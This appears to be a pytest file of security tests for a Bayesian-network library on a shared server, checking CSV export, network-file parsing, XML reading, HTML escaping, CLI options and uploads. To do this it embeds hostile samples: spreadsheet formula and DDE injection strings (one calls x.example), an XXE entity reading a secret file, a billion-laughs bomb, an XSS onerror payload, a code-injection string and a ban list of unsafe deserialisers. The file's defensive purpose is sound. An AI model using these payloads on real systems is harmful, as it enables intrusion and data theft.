"""A shared server: hostile files and text are refused or neutralised, never trusted.

CSV exports cannot carry spreadsheet formulas; a network file is sized from its declarations
before any table is allocated; the Dask dashboard of a run listens on this machine only; XML
entities are not expanded or fetched; HTML exports escape names; ``--set`` values are
literals, never code; no user file is unpickled; uploads are capped by the server.
"""

from __future__ import annotations

import csv
import io
import re
import time
import tomllib
import tracemalloc
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from bnma_core import export, scores
from bnma_core.data import DataError
from bnma_core.network import read_bif, read_xmlbif

ROOT = Path(__file__).resolve().parents[1]

# --- CSV exports: no live formulas, numbers stay numbers ---------------------------------------
FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|x",
            "-2+3+cmd|x", "@SUM(A1:A9)", "\tTAB=1", "\rCR=1", "\r=1+1"]


def test_csv_export_quotes_every_formula_start_and_keeps_numbers():
    t = pd.DataFrame({"value": FORMULAS + ["-3.5", "+2", "a\r\n=2+2"],
                      "number": np.linspace(-3.5, 6.5, len(FORMULAS) + 3),
                      "=SUM(B1)": pd.Categorical(["=a"] * (len(FORMULAS) + 3))},
                     index=[f"@r{i}" if i == 0 else f"r{i}" for i in range(len(FORMULAS) + 3)])
    text = export.table_csv(t).decode()
    back = pd.read_csv(io.StringIO(text), index_col=0, dtype={"value": str})
    for cell, orig in zip(back["value"], t["value"], strict=True):
        if orig in FORMULAS:
            assert cell == "'" + orig, (cell, orig)
        else:  # a number written as text, or plain text, is left as it is
            assert cell == orig
    assert back["number"].dtype == np.float64 and back["number"].iloc[0] == -3.5
    assert list(back.columns) == ["value", "number", "'=SUM(B1)"]
    assert set(back["'=SUM(B1)"]) == {"'=a"} and back.index[0] == "'@r0"
    for row in list(csv.reader(io.StringIO(text, newline="")))[1:]:  # no field starts a formula
        assert len(row) == 4, row  # a line break inside a cell does not start a row
        for field in row:
            assert not field.startswith(("=", "@", "\t", "\r")), row
            if field.startswith(("+", "-")):
                float(field)  # only numbers may start with a sign


def test_csv_safe_leaves_non_text_alone():
    for v in (-3.5, 0, np.float64(-1.0), None, True, "-inf", "-1e-3", "a=b"):
        assert export.csv_safe(v) is v


def test_csv_export_of_a_series_and_missing_values():
    s = pd.Series(["=1+1", None, "x"], name="-name")
    text = export.table_csv(s, index=False).decode()
    assert text == "'-name\r\n'=1+1\r\n\"\"\r\nx\r\n"  # a lone empty field is written ""


# --- network files sized from their declarations ------------------------------------------------
def _wide_bif(n_parents: int, child_states: int = 2) -> str:
    """A network whose last variable has ``n_parents`` binary parents and one ``default``
    row: a few KB of text declaring a table of 2**n_parents rows."""
    names = [f"p{i}" for i in range(n_parents)]
    out = ["network wide {}"]
    out += [f"variable {n} {{ type discrete [ 2 ] {{ yes, no }}; }}" for n in names]
    states = ", ".join(f"s{k}" for k in range(child_states))
    out.append(f"variable c {{ type discrete [ {child_states} ] {{ {states} }}; }}")
    out += [f"probability ( {n} ) {{ table 0.5, 0.5; }}" for n in names]
    row = ", ".join([repr(1 / child_states)] * child_states)
    out.append(f"probability ( c | {', '.join(names)} ) {{ default {row}; }}")
    return "\n".join(out) + "\n"


def _peak_bytes(fn) -> tuple[int, BaseException | None]:
    """Peak traced allocation (numpy arrays included) while ``fn`` runs, and what it raised."""
    tracemalloc.start()
    try:
        fn()
        err = None
    except Exception as e:  # noqa: BLE001 - returned to the test
        err = e
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return peak, err


@pytest.mark.parametrize("n_parents, child_states", [(31, 2), (24, 5)])
def test_bif_wide_table_refused_before_allocation(n_parents, child_states):
    text = _wide_bif(n_parents, child_states)
    assert len(text) < 4000  # a few KB declaring 2**31 x 2 or 2**24 x 5 cells
    t0 = time.perf_counter()
    peak, err = _peak_bytes(lambda: read_bif(text))
    assert isinstance(err, DataError), err
    msg = str(err)
    assert f"with {n_parents} parents" in msg and "more than this library holds" in msg
    assert f"{scores.MAX_DENSE_FAMILY_CELLS:.3g} cells" in msg and "fewer parents" in msg
    assert msg.startswith("BIF line ") and "'c'" in msg
    assert peak < 20 * 2**20, f"{peak / 2**20:.0f} MiB allocated before the refusal"
    assert time.perf_counter() - t0 < 5


def test_bif_24_binary_parents_use_the_library_limit(monkeypatch):
    """24 binary parents and a binary child: 2**25 cells, refused as soon as the limit is
    below that, before the 256 MiB table exists (at the library's 2**26 it is read)."""
    monkeypatch.setattr(scores, "MAX_DENSE_FAMILY_CELLS", 2**25 - 1)
    peak, err = _peak_bytes(lambda: read_bif(_wide_bif(24)))
    assert isinstance(err, DataError) and "3.36e+07 cells" in str(err), err
    assert peak < 20 * 2**20


def test_network_tables_together_are_limited(monkeypatch):
    """Each table under the limit, all of them together over it: refused as a whole."""
    monkeypatch.setattr(scores, "MAX_DENSE_FAMILY_CELLS", 70)
    text = _wide_bif(5)  # c: 64 cells, the 5 roots: 10 cells
    bn = None
    with pytest.raises(DataError, match="network's probability tables would have 74 cells"):
        bn = read_bif(text)
    monkeypatch.setattr(scores, "MAX_DENSE_FAMILY_CELLS", 74)
    bn = read_bif(text)
    assert bn.cpts[-1].shape == (32, 2)


def test_xmlbif_wide_definition_refused_before_reading_the_table():
    names = [f"p{i}" for i in range(31)]
    var = "".join(f'<VARIABLE TYPE="nature"><NAME>{n}</NAME><OUTCOME>a</OUTCOME>'
                  f"<OUTCOME>b</OUTCOME></VARIABLE>" for n in [*names, "c"])
    defs = "".join(f"<DEFINITION><FOR>{n}</FOR><TABLE>0.5 0.5</TABLE></DEFINITION>"
                   for n in names)
    given = "".join(f"<GIVEN>{n}</GIVEN>" for n in names)
    xml = (f'<BIF VERSION="0.3"><NETWORK><NAME>wide</NAME>{var}{defs}<DEFINITION><FOR>c</FOR>'
           f"{given}<TABLE>0.5 0.5</TABLE></DEFINITION></NETWORK></BIF>")
    with pytest.raises(DataError, match=r"with 31 parents would have 4.29e\+09 cells"):
        read_xmlbif(xml.encode())


# --- the Dask dashboard of a run listens on this machine only ----------------------------------
def _record_dashboard(monkeypatch) -> list:
    """Patch dask's LocalCluster so that every cluster run_grid starts records the addresses
    its dashboard listens on."""
    import dask.distributed

    seen: list = []
    real = dask.distributed.LocalCluster

    class Recording(real):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            seen.extend(s.getsockname()[0] for s in self.scheduler.http_server._sockets.values())

    monkeypatch.setattr(dask.distributed, "LocalCluster", Recording)
    return seen


def test_dask_dashboard_binds_to_loopback_unless_asked(monkeypatch, tmp_path):
    from bnma_core.reproduce import smoke
    from bnma_core.reproduce.runner import run_grid

    seen = _record_dashboard(monkeypatch)
    keys = smoke.grid(n=1)
    s = run_grid("smoke", tmp_path / "a", keys=keys, workers=1)
    assert s.n_computed == 1 and seen == ["127.0.0.1"]
    seen.clear()
    run_grid("smoke", tmp_path / "b", keys=keys, workers=1, dashboard_address=":0")
    assert seen == ["0.0.0.0"]  # the user asked for every interface


def test_cli_dashboard_option_reaches_the_runner(monkeypatch, tmp_path):
    from bnma_core.reproduce import cli, runner

    got = {}

    def fake_run_grid(paper, out, **kw):
        got.update(kw)
        raise ConnectionError("stop here")

    monkeypatch.setattr(runner, "run_grid", fake_run_grid)
    assert cli.main(["smoke", "--quick", "--out", str(tmp_path), "--no-progress"]) == 2
    assert "dashboard_address" not in got  # the runner's default: loopback
    assert runner.DASHBOARD_ADDRESS == "127.0.0.1:0"
    cli.main(["smoke", "--quick", "--out", str(tmp_path), "--dashboard", ":8787"])
    assert got["dashboard_address"] == ":8787"


# --- XML: no external entities, no entity expansion bomb ----------------------------------------
_XML_NET = ('<VARIABLE TYPE="nature"><NAME>a</NAME><OUTCOME>x</OUTCOME><OUTCOME>y</OUTCOME>'
            "</VARIABLE><DEFINITION><FOR>a</FOR><TABLE>0.5 0.5</TABLE></DEFINITION>")


def test_xmlbif_external_entity_is_not_fetched(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    xml = (f'<?xml version="1.0"?><!DOCTYPE BIF [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>'
           f'<BIF VERSION="0.3"><NETWORK><NAME>&xxe;</NAME>{_XML_NET}</NETWORK></BIF>')
    try:
        bn = read_xmlbif(xml.encode())
    except ValueError as e:
        assert "TOP-SECRET" not in str(e) and "XMLBIF" in str(e)
    else:
        assert "TOP-SECRET" not in bn.name


def test_xmlbif_billion_laughs_is_refused_quickly():
    ents = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    xml = (f'<?xml version="1.0"?><!DOCTYPE BIF [{ents}]>'
           f'<BIF VERSION="0.3"><NETWORK><NAME>&l9;</NAME>{_XML_NET}</NETWORK></BIF>')
    t0 = time.perf_counter()
    peak, err = _peak_bytes(lambda: read_xmlbif(xml.encode()))
    assert isinstance(err, ValueError) and "not well-formed XML" in str(err), err
    assert peak < 256 * 2**20 and time.perf_counter() - t0 < 5  # 1e9 "lol"s would be 3 GB


# --- HTML exports escape names ------------------------------------------------------------------
def test_html_report_escapes_every_name():
    evil = '<img src=x onerror="alert(1)">'
    table = pd.DataFrame({evil: [1.0, 2.0], "b": [evil, "ok"]}, index=[evil, "r"])
    page = export.html_report(evil, [(evil, table), ("Note", evil), (evil, table["b"])],
                              settings={evil: evil})
    assert "<img" not in page
    assert page.count("&lt;img src=x onerror=") >= 8


# --- `--set` values are literals ----------------------------------------------------------------
def test_cli_set_values_are_literals_never_code(tmp_path):
    from bnma_core.cli import _method_params

    marker = tmp_path / "ran"
    code = f"__import__('pathlib').Path({str(marker)!r}).touch()"
    params = _method_params([f"brai.max_order={code}", "brai.alpha=0.01",
                             "brai.max_ci_tests=None"], ["brai"])
    assert not marker.exists()
    assert params == {"brai": {"max_order": code, "alpha": 0.01, "max_ci_tests": None}}


# --- no user file is unpickled or read as YAML --------------------------------------------------
def test_no_pickle_yaml_or_eval_of_user_files():
    """Nothing reads a file or user bytes with pickle, YAML, marshal, shelve, joblib or
    eval / exec; ``pickle.loads`` only in a module that made the bytes itself with
    ``pickle.dumps`` (an in-memory cache of the program's own objects)."""
    banned = re.compile(r"pickle\.load\(|read_pickle|allow_pickle\s*=\s*True|\byaml\b|"
                        r"\bmarshal\b|\bshelve\b|joblib\.load|(?<![\w.])(eval|exec)\(")
    files = [*ROOT.glob("bnma_core/**/*.py"), *ROOT.glob("bnma_ui/**/*.py"),
             *ROOT.glob("pages/*.py"), ROOT / "app.py"]
    found = []
    for f in files:
        text = f.read_text()
        for i, line in enumerate(text.splitlines(), 1):
            if banned.search(line) or ("pickle.loads(" in line and "pickle.dumps(" not in text):
                found.append(f"{f.relative_to(ROOT)}:{i}: {line.strip()}")
    assert not found, found


# --- uploads are capped by the server -----------------------------------------------------------
def test_upload_size_is_capped_by_the_server_config():
    """``server.maxUploadSize`` (MB) is enforced by Streamlit's upload route on the server
    (Content-Length and the streamed body), whatever the browser sends; no uploader raises it."""
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert 0 < config["server"]["maxUploadSize"] <= 50
    for f in [ROOT / "app.py", *ROOT.glob("pages/*.py")]:
        assert "max_upload_size" not in f.read_text(), f


def test_every_csv_download_of_the_pages_goes_through_table_csv():
    """A page that builds CSV itself (``DataFrame.to_csv``) would skip the formula
    neutralising of :func:`bnma_core.export.table_csv`."""
    import re

    from conftest import ROOT

    offenders = [f"{p.relative_to(ROOT)}:{i}" for p in sorted((ROOT / "pages").glob("*.py"))
                 for i, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1)
                 if re.search(r"\.to_csv\(", line)]
    assert not offenders, offenders
